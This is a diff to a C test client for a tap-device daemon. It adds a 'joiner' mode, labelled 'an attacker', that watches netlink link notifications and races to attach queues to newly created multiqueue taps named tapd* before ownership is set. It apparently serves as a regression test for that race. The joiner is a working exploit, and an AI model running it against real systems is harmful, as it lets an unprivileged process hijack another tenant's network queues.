@@ -7,6 +7,11 @@
  *                                             a multiqueue tap (and vhost-net
  *                                             fds); print what came, hold it
  *                                             until stdin closes
+ *   tapd-client - joiner                      an attacker: on every new link
+ *                                             named tapd*, attach a queue at
+ *                                             once (TUNSETIFF); hold them all
+ *                                             until stdin closes, then print
+ *                                             "joined N of M" and exit
  *   tapd-client - attach IFNAME               attach one more queue to the
  *                                             multiqueue tap IFNAME by name
  *                                             (TUNSETIFF); print ok or why not
@@ -84,6 +89,8 @@
 #include <sys/wait.h>
 #include <linux/if_tun.h>
 #include <linux/filter.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
 
 #include "client.h"
 #include "mac.h"
@@ -439,6 +446,57 @@ static int do_l2(int sock, const char *bridge, const char *macs, const char *vla
 	return 0;
 }
 
+/*
+ * The race a multiqueue tap had: between TUNSETIFF and TUNSETOWNER it has no
+ * owner, and the kernel lets anyone attach a queue to it. Link
+ * notifications (which any process may read) name it at once.
+ */
+static int do_joiner(void)
+{
+	struct sockaddr_nl sa = { .nl_family = AF_NETLINK, .nl_groups = RTMGRP_LINK };
+	int nl = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
+	unsigned int joined = 0, seen = 0;
+	static char buf[65536];
+	struct pollfd p[2] = { { .fd = nl, .events = POLLIN }, { .fd = 0, .events = POLLIN } };
+
+	if (nl < 0 || bind(nl, (struct sockaddr *)&sa, sizeof(sa)))
+		return 1;
+	printf("joining\n");
+	fflush(stdout);
+	while (poll(p, 2, -1) > 0 && !(p[1].revents & (POLLIN | POLLHUP))) {
+		ssize_t n = recv(nl, buf, sizeof(buf), MSG_DONTWAIT);
+		struct nlmsghdr *h;
+
+		if (n <= 0)
+			continue;
+		for (h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)n); h = NLMSG_NEXT(h, n)) {
+			struct ifinfomsg *ifi = NLMSG_DATA(h);
+			struct rtattr *a = IFLA_RTA(ifi);
+			int len = (int)IFLA_PAYLOAD(h);
+
+			if (h->nlmsg_type != RTM_NEWLINK)
+				continue;
+			for (; RTA_OK(a, len); a = RTA_NEXT(a, len)) {
+				struct ifreq ifr = { .ifr_flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR |
+								  IFF_MULTI_QUEUE };
+				int fd;
+
+				if (a->rta_type != IFLA_IFNAME || strncmp(RTA_DATA(a), "tapd", 4))
+					continue;
+				seen++;
+				snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", (char *)RTA_DATA(a));
+				fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);
+				if (fd >= 0 && !ioctl(fd, TUNSETIFF, &ifr))
+					joined++;	/* held until we exit */
+				else if (fd >= 0)
+					close(fd);
+			}
+		}
+	}
+	printf("joined %u of %u\n", joined, seen);
+	return 0;
+}
+
 /* What an interface (the host's side of a bridge) receives, as root. */
 static int do_sniff(const char *ifname, int ms)
 {
@@ -666,6 +724,8 @@ int main(int argc, char **argv)
 	}
 	if (argc >= 5 && !strcmp(argv[2], "sniff"))
 		return do_sniff(argv[3], atoi(argv[4]));
+	if (!strcmp(argv[2], "joiner"))
+		return do_joiner();
 	if (argc >= 4 && !strcmp(argv[2], "attach")) {
 		struct ifreq ifr = { .ifr_flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR | IFF_MULTI_QUEUE };
 		int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);
